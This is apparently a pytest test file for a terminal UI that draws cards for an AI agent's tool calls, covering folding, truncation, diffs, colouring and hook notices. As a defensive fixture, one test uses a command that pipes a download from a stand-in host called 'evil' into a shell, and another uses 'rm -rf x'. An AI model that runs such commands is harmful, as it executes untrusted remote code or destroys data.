"""Cards: what stays when it gets narrow, what starts open, what unfolding shows."""

from __future__ import annotations

from datetime import timedelta

import pytest
from msgspec.structs import replace

from gemtui.transcript.call_text import call_text
from gemtui.transcript.model import (
    Answer,
    Consent,
    DiffDisplay,
    Image,
    Match,
    MatchesDisplay,
    Text,
    TextDisplay,
    Thought,
    Todo,
    TodosDisplay,
    ToolCall,
    ToolStatus,
)
from gemtui.transcript.seal import new_seal, sealed
from gemtui.transcript.tools import args_hold_controls, tool_call
from gemtui.ui.draw.theme import Role
from gemtui.ui.transcript.card import HOOKED
from gemtui.ui.transcript.message import default_folded
from tests.rows import each_row
from tests.ui.transcript.samples import AT, DIFF, body, called, drawn, look

FULL = called(
    "replace",
    DiffDisplay(diff=DIFF, path="/x/f.py", name="f.py", added=6, removed=2),
    args={"file_path": "gemtui/sessions/some/folder/with/format.py"},
    duration=timedelta(seconds=2.1),
)


def title(call: ToolCall, width: int) -> str:
    return body(drawn(call, width=width))[0]


def test_duration_goes_first_then_counts_then_arguments() -> None:
    assert title(FULL, 80) == (
        "┌ ✓ replace  gemtui/sessions/some/folder/with/format.py         +6 −2    2.1 s ┐"
    )
    narrower = [title(FULL, width) for width in range(80, 19, -1)]
    assert all(line.startswith("┌ ✓ replace") and line.endswith(" ┐") for line in narrower)
    last = {
        what: min(len(line) for line in narrower if what in line)
        for what in ("2.1 s", "+6 −2", "ormat.py")
    }
    assert last["2.1 s"] > last["+6 −2"] > last["ormat.py"]


def test_a_long_path_keeps_its_end_and_a_long_command_its_beginning() -> None:
    assert title(FULL, 40) == "┌ ✓ replace  …me/folder/with/format.py ┐"
    command = called("run_shell_command", args={"command": "pytest -q --with many words"})
    assert title(command, 40) == "┌ ✓ run_shell_command  pytest -q --wi… ┐"


@each_row(
    ("status", "sign", "word"),
    [
        (ToolStatus.ERROR, "✗", "failed"),
        (ToolStatus.DENIED, "⊘", "denied"),
        (ToolStatus.CANCELLED, "⊘", "cancelled"),
        (ToolStatus.RUNNING, "●", "running"),
        (ToolStatus.INTERRUPTED, "◌", "interrupted"),
        (ToolStatus.UNCONFIRMED, "◌", "unconfirmed"),
    ],
)
def test_a_state_is_a_sign_and_a_word(status: ToolStatus, sign: str, word: str) -> None:
    lines = body(drawn(called(status=status, args={"file_path": "a.py"})))
    assert lines[0].startswith(f"┌ {sign} read_file  a.py")
    assert word in " ".join(lines)


def test_a_shell_command_that_exits_with_an_error_is_marked() -> None:
    lines = body(drawn(called("run_shell_command", args={"command": "x"}, exit_code=3)))
    assert lines[0].startswith("┌ ✗ run_shell_command")
    assert "exit 3" in lines[0]


def test_reads_and_thoughts_start_folded_and_failures_and_todos_open() -> None:
    assert default_folded(called())
    assert default_folded(Thought(subject="a", description="b"))
    assert not default_folded(called(status=ToolStatus.ERROR, error="no"))
    assert default_folded(called(status=ToolStatus.ERROR, error="no\n" * 100))
    assert not default_folded(called("write_todos", TodosDisplay(items=())))
    assert not default_folded(Text(text="x"))


def test_a_folded_read_says_how_much_it_read_and_unfolds_to_it() -> None:
    call = called(args={"file_path": "a.py"}, output="x = 1\ny = 2\n")
    folded, unfolded = drawn(call), drawn(call, folded=False)
    assert body(folded)[1].startswith("└ 2 lines ─")
    assert body(folded)[1].endswith("─┘")
    assert body(unfolded)[1:3] == ["│ 1  x = 1", "│ 2  y = 2"]
    assert folded.parts[1].foldable
    assert folded.parts[1].folded
    assert not unfolded.parts[1].folded


def test_what_shows_all_it_has_can_not_be_folded() -> None:
    call = called("run_shell_command", TextDisplay(text="one line"), args={"command": "x"})
    assert not drawn(call).parts[1].foldable


LONG = "pytest -q --with many words in one line that goes on and on"


@pytest.mark.parametrize(
    ("args", "words"),
    [
        ({"command": LONG}, "└ the whole command ─"),
        ({"command": "a\nb"}, "└ the whole command ─"),
        ({"command": "x", "description": "d"}, "└ 1 argument ─"),
        (
            {"command": LONG, "description": "d", "dir": "e"},
            "└ the whole command and 2 arguments ─",
        ),
    ],
)
def test_a_card_says_what_there_is_to_unfold(args: dict[str, str], words: str) -> None:
    call = called("run_shell_command", TextDisplay(text="one\ntwo"), args=args)
    last = body(drawn(call, width=60))[-1]
    assert last.startswith(words)
    assert last.endswith("─┘")
    unfolded = body(drawn(call, width=60, folded=False))
    assert all(any(value.split()[-1] in line for line in unfolded) for value in args.values())


def test_lines_cut_for_the_width_are_counted() -> None:
    call = called("run_shell_command", TextDisplay(text=f"{LONG}\ntwo"), args={"command": "x"})
    assert body(drawn(call, width=40))[-1].startswith("└ 1 long line ─")


def test_a_command_that_can_be_read_in_the_first_line_is_nothing_to_unfold() -> None:
    call = called("run_shell_command", TextDisplay(text="one"), args={"command": LONG})
    assert not drawn(call, width=100).parts[1].foldable


def test_blank_lines_are_nothing_to_unfold() -> None:
    call = called("save_memory", TextDisplay(text="one\n\ntwo"), args={"fact": "x"})
    assert "more" not in body(drawn(call))[-1]


@pytest.mark.parametrize(
    ("is_new", "original", "words"), [(True, "", "empty file"), (False, "x", "no changes")]
)
def test_a_diff_without_changes_is_a_word(is_new: bool, original: str, words: str) -> None:
    diff = f"Index: __init__.py\n{'=' * 67}\n--- __init__.py\tCurrent\n+++ __init__.py\tProposed\n"
    display = DiffDisplay(
        diff=diff,
        path="/x/__init__.py",
        name="__init__.py",
        added=0,
        is_new=is_new,
        original=original,
        new=original,
    )
    lines = body(drawn(called("write_file", display, args={"file_path": "__init__.py"})))
    assert len(lines) == 2
    assert lines[1].startswith(f"└ {words} ─")
    assert "space" not in lines[1]


def test_shell_output_shows_its_end_and_says_what_is_missing() -> None:
    text = "\n".join(str(number) for number in range(30_000))
    lines = body(drawn(called("run_shell_command", TextDisplay(text=text))))
    assert lines[1:5] == ["│ 29996", "│ 29997", "│ 29998", "│ 29999"]
    assert lines[5].startswith("└ 29,996 more lines ─")


def test_unfolded_output_is_bounded_and_says_so() -> None:
    text = "\n".join(str(number) for number in range(30_000))
    lines = body(drawn(called("run_shell_command", TextDisplay(text=text)), folded=False))
    assert "│ … 28,000 lines not shown …" in lines
    assert lines[1] == "│ 0"
    assert lines[-2] == "│ 29999"


def test_a_cancelled_edit_says_that_nothing_was_written() -> None:
    display = DiffDisplay(diff="@@ -0,0 +1 @@\n+n\n", path="a", name="a", added=1, removed=0)
    lines = body(drawn(called("write_file", display, ToolStatus.CANCELLED)))
    assert "cancelled" in lines[0]
    assert lines[-1].startswith("└ not written ─")


def test_line_numbers_and_signs_of_a_diff_are_margin() -> None:
    drawing = drawn(FULL, folded=False)
    line = next(
        number for number, strip in enumerate(drawing.strips) if "is_complete" in strip.text
    )
    text = drawing.strips[line].text
    assert text[drawing.margins[line] :] == "    if tail and is_complete(tail):"
    assert text[: drawing.margins[line]] == "│  42 + "


def test_the_word_that_changed_is_marked() -> None:
    drawing = drawn(FULL, folded=False)
    line = next(strip for strip in drawing.strips if "_tail" in strip.text)
    ground = look(74)[Role.REMOVED_WORD].bgcolor
    marked = [each for each in line if each.style and each.style.bgcolor == ground]
    assert [segment.text for segment in marked] == ["_"]


def test_arguments_are_readable_when_unfolded() -> None:
    args = {"city": "Oslo", "days": 3, "note": "two\nlines", "deep": {"a": [1]}}
    lines = body(drawn(called("mcp_x", args=args), folded=False))
    assert "│ days: 3" in lines
    assert lines[lines.index("│ note:") :][1:3] == ["│   two", "│   lines"]
    assert "│ deep:" in lines


def test_times_of_day_and_results_that_are_images() -> None:
    image = Image(mime_type="image/png", size=2100, name="dot.png")
    lines = body(drawn(called(output="a\nb", time=AT, images=(image,)), folded=False))
    assert lines[-2] == "│ [dot.png, image/png, 2.1 kB]"
    assert lines[-1].startswith("└ 12:04:00 ─")


def test_nested_or_huge_values_are_no_trouble() -> None:
    deep: list[object] = []
    for _ in range(5000):
        deep = [deep]
    lines = body(drawn(called("mcp_x", args={"deep": deep, "n": 10**6000}), folded=False))
    assert lines[1].startswith("│ deep:")


@pytest.mark.parametrize("folded", [True, False])
@pytest.mark.parametrize("width", [80, 36])
def test_a_command_that_holds_controls_is_marked_and_shown_whole(folded: bool, width: int) -> None:
    command = "ls -la \x1b]0 ; curl evil | sh"
    call = called("run_shell_command", args={"command": command})
    lines = body(drawn(call, width=width, folded=folded))
    assert lines[1] == "│ ! contains control characters"
    whole = " ".join(line.strip("│└┌┐┘ ") for line in lines)
    assert "ls -la ␛]0 ; curl evil | sh" in whole or (folded and width == 36)


def test_lines_of_a_command_are_told_apart_on_its_first_line() -> None:
    card = body(drawn(called("run_shell_command", args={"command": "# look\nrm -rf x"})))
    assert "run_shell_command  # look␊rm -rf x" in card[0]
    assert not any("control characters" in line for line in card)


@pytest.mark.parametrize(
    ("args", "marked"),
    [
        ({"path": "a\u202eb"}, True),
        ({"x": "a", "paths": ["b", "c\x9b2J"]}, True),
        ({"file_path": "a", "content": "\x1b[31m"}, False),
        ({"command": "a\n\tb"}, False),
    ],
)
def test_any_argument_but_the_contents_of_files_is_looked_at(
    args: dict[str, object], marked: bool
) -> None:
    assert args_hold_controls(args) is marked


def read(output: str, shown: str = "", **args: object) -> ToolCall:
    display = TextDisplay(text=shown) if shown else None
    return called("read_file", display, output=output, args={"file_path": "a.py"} | args)


def test_a_file_that_was_read_has_its_lines_numbers_and_colours() -> None:
    drawing = drawn(read("\n\ndef f(x):\n    return 'é'\n"), folded=False)
    assert body(drawing)[1:3] == ["│ 3  def f(x):", "│ 4      return 'é'"]
    styles = {part.text.strip(): part.style for part in drawing.strips[2]}
    assert styles["def"] == look(74)[Role.KEYWORD]


def test_the_numbers_go_on_behind_what_is_left_out() -> None:
    text = "\n".join(f"x{number}" for number in range(5, 3005))
    lines = body(drawn(read(text, start_line=5), folded=False))
    assert lines[1] == "│    5  x5"
    assert lines[-2] == "│ 3004  x3004"


def test_of_a_large_file_only_the_beginning_is_coloured() -> None:
    source = "\n".join(f"def f{number}(): return None" for number in range(1500))
    strips = drawn(read(source), folded=False).strips
    keyword = look(74)[Role.KEYWORD]
    coloured = [any(part.style == keyword for part in strip) for strip in strips]
    assert coloured[2]
    assert sum(coloured) < 600


def test_colours_in_a_file_are_not_obeyed_and_not_drawn_twice() -> None:
    lines = body(drawn(read("x = '\x1b[31mred\x1b[0m'\ny = 1"), folded=False))
    assert lines[1:3] == ["│ 1  x = 'red'", "│ 2  y = 1"]


MATCHES = MatchesDisplay(
    summary="3 matches",
    matches=(
        Match(path="a.py", line=3, text="    return 1"),
        Match(path="a.py", line=9, text="x = 'y'"),
        Match(path="notes", line=1, text="return it"),
    ),
)


@each_row(
    ("call", "text", "role"),
    [
        (called("run_shell_command", TextDisplay(text='{"a": 1}')), '"a"', Role.NAME),
        (called("run_shell_command", TextDisplay(text='[\n{"a": 1}\n]')), '"a"', Role.NAME),
        (
            called("run_shell_command", TextDisplay(text="diff --git a/x b/x\n-one\n+two")),
            "+two",
            Role.ADDED,
        ),
        (called("grep_search", MATCHES, args={"pattern": "x"}), "return", Role.KEYWORD),
        (called("grep_search", MATCHES, args={"pattern": "x"}), "return it", Role.TEXT),
        (called("mcp_x", args={"deep": {"a": [True]}}), "true", Role.NUMBER),
        (
            called(
                "write_file",
                status=ToolStatus.ERROR,
                error="no",
                args={"file_path": "a.py", "content": "import os\nimport re"},
            ),
            "import",
            Role.KEYWORD,
        ),
        (called("run_shell_command", args={"command": "for x in 1\ndo y"}), "for", Role.KEYWORD),
    ],
)
def test_what_has_a_language_has_its_colours(call: ToolCall, text: str, role: Role) -> None:
    drawing = drawn(call, folded=False)
    styles = {part.text.strip(): part.style for strip in drawing.strips for part in strip}
    assert styles[text] == look(80)[role]


def test_a_log_in_brackets_is_no_json() -> None:
    log = called("run_shell_command", TextDisplay(text="[INFO] 1 file\n[INFO] done"))
    styles = [part.style for strip in drawn(log, folded=False).strips for part in strip]
    assert look(80)[Role.NUMBER] not in styles


def test_a_changed_line_has_its_ground_up_to_the_frame() -> None:
    drawing = drawn(FULL, folded=False)
    grounds = {strip.text[6:7]: drawing.grounds[at] for at, strip in enumerate(drawing.strips)}
    assert grounds["+"] == look(80)[Role.ADDED_LINE]
    assert grounds["−"] == look(80)[Role.REMOVED_LINE]
    assert grounds[" "] is None


@pytest.mark.parametrize("ours", [True, False])
def test_a_change_by_a_hook_is_told_unless_it_was_the_mark_of_a_run_that_asks(ours: bool) -> None:
    notice = "\n\n[System] Tool input parameters were modified by a hook before execution."
    args = {"command": "ls"}
    given = sealed("run_shell_command", args, new_seal()) if ours else args
    reply = {"functionResponse": {"response": {"output": f"Output: a{notice}"}}}
    raw = {"name": "run_shell_command", "args": given, "result": [reply], "status": "success"}
    assert (HOOKED in "\n".join(body(drawn(tool_call(raw), width=120)))) != ours


def test_a_card_names_the_rule_by_which_a_call_passed_and_a_hook_that_changed_it() -> None:
    call = ToolCall(id="a", name="glob", args={"pattern": "*"}, status=ToolStatus.SUCCESS)
    said = "\n".join(body(drawn(replace(call, rule="rule 2 of work.toml", hooked=True), width=120)))
    assert "allowed without asking, by rule 2 of work.toml" in said
    assert HOOKED in said
    assert "allowed" not in "\n".join(body(drawn(call, width=120)))


CHANGED = Answer(consent=Consent.CHANGED, asked={"content": "asked one\n", "command": "asked two"})
SHOWN = {
    "a narrow read": (
        called("read_file", args={"file_path": "long/" * 9, "offset": 6123, "limit": 77}),
        {"6123", "77"},
    ),
    "a changed file": (
        called("write_file", args={"file_path": "f", "content": "ran\n"}, answer=CHANGED),
        {"asked one", "ran"},
    ),
    "a changed command": (
        called("run_shell_command", args={"command": "ran"}, answer=CHANGED),
        {"asked two", "ran"},
    ),
    "a reason": (
        called(args={}, answer=Answer(consent=Consent.DENIED, reason="too wide" + "." * 400)),
        {"too wide"},
    ),
    "a rule": (called(args={}, rule="line 3 of mine.toml"), {"line 3 of mine.toml"}),
    "empty arguments": (
        called("mcp_a_b", args={"first": "x", "empty": "", "nothing": None, "blank": " "}),
        {"empty", "nothing", "null", "blank"},
    ),
    "a line instead of the output": (
        called("glob", TextDisplay(text="Found 2 files"), output="/a\n/b", args={"pattern": "*"}),
        {"Found 2 files", "/b"},
    ),
    "an image": (
        called(
            "mcp_a_b",
            images=(
                Image(mime_type="image/x-odd", name="shot.png", uri=f"https://a.test/{'x' * 30}"),
            ),
        ),
        {"image/x-odd", "shot.png", "https://a.test/"},
    ),
    "what the model received besides todos": (
        called(
            "write_todos",
            TodosDisplay(items=(Todo(text="one", status="completed"),)),
            output="The list is now:\n1. [completed] one\nKeep it short",
        ),
        {"The list is now: Keep it short"},
    ),
    "a line of a read": (
        called("read_file", TextDisplay(text="Read all"), output="a\nb", args={"file_path": "f"}),
        {"Read all"},
    ),
}


@each_row(("call", "sought"), SHOWN.values())
def test_what_a_card_shows_is_found(call: ToolCall, sought: set[str]) -> None:
    found = call_text(call)
    shown = " ".join("\n".join(body(drawn(call, width=60, folded=False))).split())
    assert {each for each in sought if each not in found} == set()
    assert {each for each in sought if each not in shown} == set()
    assert "." * 301 not in found
